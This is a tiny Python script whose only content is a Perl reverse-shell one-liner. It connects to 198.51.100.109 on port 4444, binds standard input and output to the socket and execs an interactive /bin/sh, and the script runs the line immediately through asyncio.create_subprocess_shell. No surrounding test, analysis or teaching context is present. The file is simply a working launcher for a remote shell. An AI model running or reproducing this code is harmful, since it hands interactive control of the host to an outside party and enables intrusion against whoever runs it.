import asyncio, shlex
LINE = "perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(4444,inet_aton(\"198.51.100.109\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'"
asyncio.run(asyncio.create_subprocess_shell(LINE))
